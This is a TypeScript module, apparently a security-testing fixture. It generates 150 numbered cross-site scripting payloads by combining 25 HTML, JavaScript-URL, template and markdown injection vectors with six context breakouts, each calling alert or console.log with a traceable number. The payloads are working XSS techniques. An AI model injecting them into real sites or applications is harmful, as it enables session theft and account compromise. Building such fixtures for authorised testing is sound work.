/** What stands in every payload, so that it can be found again: `x042x`. */
export const MARK = /x(\d{3})x/g;

/** Where scripts have been put by others. `!` is what is to run. */
const VECTORS = [
  '<script>!</script>',
  '<img src=x onerror=!>',
  '<svg onload=!>',
  '<svg><script>!</script></svg>',
  '<iframe src="javascript:!">',
  '<iframe srcdoc="<script>!</script>">',
  '<body onload=!>',
  '<details open ontoggle=!>',
  '<input autofocus onfocus=!>',
  '<video><source onerror=!>',
  '<a href="javascript:!">go</a>',
  '<math><mtext><img src=x onerror=!></mtext></math>',
  '<object data="javascript:!">',
  '<embed src="javascript:!">',
  '<form action="javascript:!"><button>go</button></form>',
  '<img src="//xss.example/i.png" onload=!>',
  '<link rel=stylesheet href="//xss.example/s.css" onload=!>',
  '<base href="//xss.example/"><img src=b onerror=!>',
  '<meta http-equiv=refresh content="0;url=javascript:!">',
  '<style>@import "//xss.example/s.css";</style><img src=x onerror=!>',
  '<template><img src=x onerror=!></template><img src=x onerror=!>',
  '{{constructor.constructor("!")()}}',
  '${!}',
  '[go](javascript:!)',
  '![x](x" onerror="!)',
];

/** What may have to be left before: a text, a value, a title, a script, a comment. */
const WAYS_OUT = ['', '">', "'>", '</textarea></title>', '</script>', '--></style>'];

/** What a script that ran says or shows: this, and the number of its payload. */
export const RAN = 170_000;

/** Of every six, one shows a dialog; the others tell the console. */
const calls = (number: number, way: number) => `${way === 1 ? 'alert' : 'console.log'}(${RAN + number})`;

/** 150 payloads, each saying by its number which one ran. */
export const PAYLOADS: readonly string[] = VECTORS.flatMap((vector, v) =>
  WAYS_OUT.map((wayOut, w) => {
    const number = v * WAYS_OUT.length + w;
    return `x${String(number).padStart(3, '0')}x${wayOut}${vector.replaceAll('!', calls(number, w))}`;
  }),
);
